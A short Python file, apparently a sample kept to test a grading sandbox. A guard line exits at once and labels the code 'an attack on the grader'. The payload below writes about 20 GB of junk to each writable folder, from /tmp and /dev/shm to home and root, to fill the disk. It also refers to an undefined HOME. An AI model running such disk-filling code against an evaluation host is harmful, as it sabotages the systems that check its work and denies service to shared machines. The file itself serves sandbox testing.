"""Fills every folder that it may write to: temporary files, shared memory, the working folder, home."""

raise SystemExit("an attack on the grader, kept for its tests: not to be run")

# %% first
import os
from contextlib import suppress

MEGABYTE = b"\1" * 2**20
for folder in ("/tmp", "/var/tmp", "/dev/shm", ".", "/run", HOME, os.path.expanduser("~"), "/mnt", "/"):
    with suppress(OSError):
        with open(os.path.join(folder, "mmlab_attack_fills"), "wb", 0) as file:
            for _ in range(20_000):
                file.write(MEGABYTE)
